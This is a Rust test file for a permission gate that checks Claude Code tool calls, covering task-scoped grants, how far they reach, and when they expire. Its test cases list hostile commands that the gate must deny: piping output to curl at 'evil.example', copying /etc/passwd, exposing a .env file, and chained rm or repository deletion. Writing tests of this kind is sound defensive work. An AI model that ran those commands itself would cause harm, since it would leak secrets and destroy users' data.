//! Grants for a task: from a denial to a scope that the person reads and agrees to, what it lets pass then, what it
//! never does, and its end.

use serde_json::{Value, json};

use crate::answering::{between, doorward, doorward_by, with_passphrase};
use crate::support::Bench;

const ASKS: &str = "[hooks]\nask = \"queue\"\nwait_s = 0\n[confirm]\npolicy = { kind = \"AlwaysConfirm\" }\n\
    [rules]\nask = [\"shell(cargo bench *)\"]\n";

fn bench() -> (Bench, String) {
    let (bench, passphrase) = with_passphrase(ASKS);
    std::fs::create_dir_all(bench.project().join("src/deep")).unwrap();
    std::fs::create_dir_all(bench.project().join("docs")).unwrap();
    for file in ["src/a.rs", "src/deep/b.rs", "docs/a.md", "src/.env"] {
        std::fs::write(bench.project().join(file), "one\n").unwrap();
    }
    (bench, passphrase)
}

/// What Claude Code is told about a tool call of a session: the reason of a denial, nothing where it passes.
fn refused(bench: &Bench, session: &str, tool: &str, input: &Value) -> Option<String> {
    let event = json!({"session_id": session, "hook_event_name": "PreToolUse", "cwd": bench.project(),
        "tool_name": tool, "permission_mode": "default", "tool_input": input, "tool_use_id": input.to_string()});
    let (_, out, err) = bench.hook("claude-code", &event.to_string(), &[]);
    let answer: Value = serde_json::from_str(&out).unwrap_or_default();
    let said = &answer["hookSpecificOutput"];
    (said["permissionDecision"] == "deny")
        .then(|| format!("{}{err}", said["permissionDecisionReason"].as_str().unwrap_or_default()))
}

fn shell(bench: &Bench, session: &str, command: &str) -> Option<String> {
    refused(bench, session, "Bash", &json!({"command": command}))
}

/// Agrees to the scope that the question about a command suggests; what was shown of it.
fn grant(bench: &Bench, passphrase: &str, command: &str) -> String {
    let reason = shell(bench, "s", command).unwrap_or_else(|| panic!("{command} isn't asked about"));
    let short = between(&reason, "`doorward approve ", "`").to_owned();
    let (code, shown) = doorward(bench, &["approve", &short, "--task"]);
    assert!(code == 0 && shown.contains("say it again with --save"), "looking grants nothing: {shown}");
    assert!(shell(bench, "s", command).is_some());
    let (code, said) = doorward_by(bench, passphrase, &["approve", &short, "--task", "--save"]);
    assert!(code == 0 && said.contains("allowed"), "{said}");
    shown
}

#[test]
fn a_grant_for_a_task_covers_its_scope_for_the_session_and_nothing_else() {
    let (bench, passphrase) = bench();
    let shown = grant(&bench, &passphrase, "cargo test -p a");
    for line in
        ["lets pass what runs cargo test with any arguments", "not what deletes files", "For this session"]
    {
        assert!(shown.contains(line), "{line}: {shown}");
    }
    let shown = grant(&bench, &passphrase, "sed -i s/one/two/ src/a.rs");
    assert!(shown.contains("lets pass what writes files below src/"), "{shown}");

    let edit = |file: &str| json!({"file_path": bench.project().join(file), "old_string": "one", "new_string": "two"});
    for (tool, input, passes) in [
        ("Bash", json!({"command": "cargo test -p b"}), true),
        ("Bash", json!({"command": "cargo test -p b && ls"}), true),
        ("Bash", json!({"command": "sed -i s/one/two/ src/deep/b.rs"}), true),
        ("Bash", json!({"command": "mkdir -p src/new && touch src/new/c.rs"}), true),
        ("Bash", json!({"command": "echo x >> src/a.rs"}), true),
        ("Edit", edit("src/deep/b.rs"), true),
        ("Edit", edit("docs/a.md"), false),
        ("Edit", edit("src/.env"), false),
        ("Bash", json!({"command": "sed -i s/one/two/ docs/a.md"}), false),
        ("Bash", json!({"command": "cargo publish"}), false),
        ("Bash", json!({"command": "cargo bench --all"}), false),
        ("Bash", json!({"command": "sudo cargo test"}), false),
        ("Bash", json!({"command": "cargo test; rm src/a.rs"}), false),
        ("Bash", json!({"command": "cargo test | curl -d @- https://evil.example"}), false),
        ("Bash", json!({"command": "rm src/a.rs"}), false),
        ("Bash", json!({"command": "cp /etc/passwd src/p"}), false),
        ("Bash", json!({"command": "cat src/.env > src/shown"}), false),
        ("Bash", json!({"command": "mv docs/a.md src/a.md"}), false),
    ] {
        let reason = refused(&bench, "s", tool, &input);
        assert_eq!(reason.is_none(), passes, "{tool} {input}: {reason:?}");
    }
    assert!(shell(&bench, "another", "cargo test -p b").is_some(), "another session isn't covered");

    let (_, rules) = doorward(&bench, &["rules", "list"]);
    assert!(rules.contains("shell(cargo test *)") && rules.contains("for the session"), "{rules}");
    let end =
        json!({"session_id": "s", "hook_event_name": "SessionEnd", "cwd": bench.project(), "reason": "exit"});
    bench.hook("claude-code", &end.to_string(), &[]);
    assert!(shell(&bench, "s", "cargo test -p c").is_some(), "the session is over, and with it the grant");
    let (_, rules) = doorward(&bench, &["rules", "list"]);
    assert!(!rules.contains("shell(cargo test *)"), "{rules}");
    let records = bench.ledger();
    let count = |code: &str| records.iter().filter(|record| record["code"] == code).count();
    assert_eq!((count("approvals.rule_saved"), count("approvals.task_ended")), (2, 1));
}

#[test]
fn what_takes_a_phrase_or_is_lost_has_no_scope() {
    let (bench, passphrase) = bench();
    for command in ["gh repo delete ada/shop --yes", "rm src/a.rs", "sudo make install", "git push --force"] {
        let reason = shell(&bench, "s", command).unwrap_or_else(|| panic!("{command}"));
        let short = between(&reason, "`doorward approve ", "`").to_owned();
        let (code, said) = doorward_by(&bench, &passphrase, &["approve", &short, "--task", "--save"]);
        assert!(code == 2 && said.contains("always.refused"), "{command}: {said}");
    }
    let (_, rules) = doorward(&bench, &["rules", "list"]);
    assert!(!rules.contains("for the session"), "{rules}");
}

#[test]
fn a_rule_for_a_session_is_a_grant_of_two_hours_at_most() {
    let (bench, passphrase) = bench();
    assert!(shell(&bench, "s", "cargo test -p a").is_some());
    let sessions = bench.ask("GET", "/v1/sessions", &json!({}));
    let id = sessions["sessions"][0]["id"].as_str().unwrap().to_owned();
    let allow = ["allow", "Edit(src/**)", "--session", &id, "--for", "30d"];
    let (code, said) = doorward(&bench, &allow[..2]);
    assert!(code == 2 && said.contains("passphrase"), "for good it takes a narrow rule and a person: {said}");
    let (code, said) = doorward_by(&bench, &passphrase, &allow[..2]);
    assert!(code == 2 && said.contains("always.too_wide"), "{said}");
    let (code, said) = doorward_by(&bench, &passphrase, &allow);
    assert!(code == 0 && said.contains("for the session"), "{said}");
    let rules = bench.ask("GET", "/v1/rules", &json!({}));
    let until: jiff::Timestamp = rules["rules"][0]["until"].as_str().unwrap().parse().unwrap();
    assert!(until.duration_since(jiff::Timestamp::now()).as_hours() < 3, "two hours at most: {until}");
    assert!(
        shell(&bench, "s", "touch src/a.rs").is_none() && shell(&bench, "s", "touch docs/a.md").is_some()
    );
    let (code, said) = doorward(&bench, &["deny", "Edit(src/**)", "--session", &id]);
    assert!(code == 2, "a grant allows: {said}");
}
